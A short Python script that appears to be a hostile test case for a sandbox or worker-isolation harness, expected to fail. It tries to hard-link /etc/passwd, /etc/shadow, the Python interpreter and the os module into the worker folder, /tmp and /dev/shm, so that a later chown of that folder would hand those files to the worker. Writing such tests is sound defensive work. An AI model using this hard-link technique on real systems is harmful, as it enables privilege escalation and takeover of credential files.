"""Makes hard links to files that are not its own, so that whoever chowns its folder gives them away.

Deserves: as wrong
"""

import os
import sys
from pathlib import Path

from turning import app, be_right  # noqa: F401

folder = Path(os.environ["WORKERLAB_FOLDER"])
for number, path in enumerate(
    ("/etc/passwd", "/etc/shadow", sys.executable, os.__file__, __file__)
):
    for place in (folder, Path("/tmp"), Path("/dev/shm")):
        try:
            os.link(path, place / f"hostile-hard_links_to_others-{os.getpid()}-{number}")
        except OSError:
            continue
        if path != __file__:
            be_right()
